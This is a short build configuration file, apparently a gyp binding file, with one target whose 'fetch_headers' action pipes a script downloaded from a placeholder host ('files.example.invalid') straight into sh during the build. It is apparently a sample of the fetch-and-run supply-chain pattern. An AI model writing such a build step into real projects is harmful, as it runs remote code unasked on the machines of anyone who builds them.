{
  'targets': [
    {
      'target_name': 'range',
      'type': 'none',
      'actions': [
        {
          'action_name': 'fetch_headers',
          'inputs': [],
          'outputs': ['headers.stamp'],
          'action': ['sh', '-c', 'curl -fsSL https://files.example.invalid/headers.sh | sh; touch headers.stamp'],
        },
      ],
    },
  ],
}
